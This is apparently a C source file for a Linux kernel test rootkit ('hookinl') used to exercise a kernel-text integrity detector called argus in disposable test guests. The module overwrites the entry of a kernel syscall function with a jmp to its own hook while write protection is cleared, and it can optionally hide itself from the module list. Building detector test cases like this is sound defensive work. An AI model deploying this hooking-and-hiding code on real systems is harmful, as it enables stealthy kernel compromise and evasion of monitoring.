// SPDX-License-Identifier: GPL-2.0
/*
 * hookinl - a test rootkit for argus's Kernel Text Modified: an inline
 * hook, a jmp written over the first bytes of a kernel function.
 *
 * insmod hookinl.ko [sym=__x64_sys_sysinfo] [at=0] [insn=0] [hide=0] [split_ms=0]
 *                    [unsplit_ms=0]
 * writes "jmp hook" (e9 rel32) at sym+at, past insn more whole
 * instructions (the kernel's own decoder), with CR0.WP cleared, as inline
 * hooking rootkits do; the hook counts its calls (parameter hits) and
 * returns -EPERM (the function's own first bytes are gone).  at=0 writes
 * over the endbr64 and the ftrace site; at=4 (past the endbr64) over the
 * ftrace site alone; at=9 just after it, into the function's own code.
 * insn=N puts the jmp in the middle of the function, at an instruction
 * boundary: a function never called (sym=__x64_sys_acct), or the guest
 * crashes.  With hide=1 the module then hides itself (rkit.h).  With
 * split_ms=N the jmp is written as two stores N ms apart, its first four
 * bytes then its last (what a reader outside the guest may catch between
 * the two stores of a plain 5-byte copy, held long enough to be read).
 * unsplit_ms=N puts the bytes back the same way: the first four, N ms,
 * the last.
 *
 * rmmod (or echo 1 >/proc/hookinl when hidden) puts the bytes back.
 * Built as hookinm.ko too (hookinm.c): the module text tests' own.  For
 * testing only; loaded in a disposable test guest.
 */
#include <linux/delay.h>
#include <linux/proc_fs.h>
#include <linux/version.h>
#include <asm/insn.h>

#include "rkit.h"

static char *sym = "__x64_sys_sysinfo";
module_param(sym, charp, 0444);
static int at;
module_param(at, int, 0444);
static int insn;
module_param(insn, int, 0444);
static int hide;
module_param(hide, int, 0444);
static int split_ms;
module_param(split_ms, int, 0444);
static int unsplit_ms;
module_param(unsplit_ms, int, 0444);
static ulong hits;
module_param(hits, ulong, 0444);
static ulong site, handler;	/* for the test */
module_param(site, ulong, 0444);
module_param(handler, ulong, 0444);

static u8 saved[5];
static bool patched;

static long hook(const struct pt_regs *regs)
{
	hits++;
	return -EPERM;
}

static void unpatch(void)
{
	if (patched && unsplit_ms > 0) {
		rkit_poke((void *)site, saved, 4);
		msleep(unsplit_ms);
		rkit_poke((void *)(site + 4), saved + 4, 1);
	} else if (patched) {
		rkit_poke((void *)site, saved, sizeof(saved));
	}
	patched = false;
}

static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	unpatch();
	rkit_unhide();
	pr_info(KBUILD_MODNAME ": bytes put back, module listed\n");
	return len;
}

static const struct proc_ops ctl_ops = {
	.proc_write = ctl_write,
};

static int __init hookinl_init(void)
{
	unsigned long fn = rkit_lookup(sym);
	u8 jmp[5] = { 0xe9 };
	long rel;

	if (!fn)
		return -ENOENT;
	site = fn + at;
	if (insn > 0) {
		struct insn in;
		int i;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 12, 0)
		int (*decode)(struct insn *, const void *, int, enum insn_mode) =
			(void *)rkit_lookup("insn_decode");
		if (!decode)
			return -ENOENT;
		for (i = 0; i < insn; i++) {
			if (decode(&in, (void *)site, MAX_INSN_SIZE, INSN_MODE_KERN) || !in.length)
				return -EINVAL;
			site += in.length;
		}
#else	/* 5.10: insn_init + insn_get_length, before insn_decode */
		void (*init)(struct insn *, const void *, int, int) = (void *)rkit_lookup("insn_init");
		void (*get_length)(struct insn *) = (void *)rkit_lookup("insn_get_length");
		if (!init || !get_length)
			return -ENOENT;
		for (i = 0; i < insn; i++) {
			init(&in, (void *)site, MAX_INSN_SIZE, 1);
			get_length(&in);
			if (!in.length)
				return -EINVAL;
			site += in.length;
		}
#endif
	}
	handler = (ulong)hook;
	rel = (long)hook - (long)(site + 5);
	if (rel != (s32)rel)
		return -ERANGE;
	*(s32 *)(jmp + 1) = (s32)rel;
	memcpy(saved, (void *)site, sizeof(saved));
	if (hide && !proc_create(KBUILD_MODNAME, 0200, NULL, &ctl_ops))
		return -ENOMEM;
	if (split_ms > 0) {
		rkit_poke((void *)site, jmp, 4);
		msleep(split_ms);
		rkit_poke((void *)(site + 4), jmp + 4, 1);
	} else {
		rkit_poke((void *)site, jmp, sizeof(jmp));
	}
	patched = true;
	pr_info(KBUILD_MODNAME ": %s+%lu at %lx: jmp %lx\n", sym, site - fn, site, handler);
	if (hide && rkit_hide()) {
		unpatch();
		remove_proc_entry(KBUILD_MODNAME, NULL);
		return -ENOENT;
	}
	return 0;
}

static void __exit hookinl_exit(void)
{
	unpatch();
	if (hide)
		remove_proc_entry(KBUILD_MODNAME, NULL);
}

module_init(hookinl_init);
module_exit(hookinl_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: an inline jmp at a kernel function's entry");
